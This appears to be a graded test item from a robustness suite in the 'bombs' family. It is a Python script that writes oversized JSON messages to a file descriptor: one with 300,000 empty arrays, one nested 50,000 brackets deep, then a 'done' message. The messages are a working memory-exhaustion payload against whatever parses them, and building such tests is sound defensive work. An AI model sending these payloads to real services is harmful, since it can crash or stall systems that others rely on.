"""
family = "bombs"
tries = "Sends messages that take many times the memory of their text when they are read, and says that it is done."
points = 3
"""

# %% own
import os

brackets = b'{"msg_type": "display_data", "content": {"data": {"application/json": [' + b"[]," * 300_000 + b"[]]}, "
brackets += b'"metadata": {}, "transient": {}}}\n'
deep = b'{"msg_type": "display_data", "content": {"data": ' + b"[" * 50_000 + b"]" * 50_000 + b"}}\n"
for text in (deep, brackets, b'{"msg_type": "done", "content": {}}\n'):
    view = memoryview(text)
    while view:
        view = view[os.write(200, view) :]
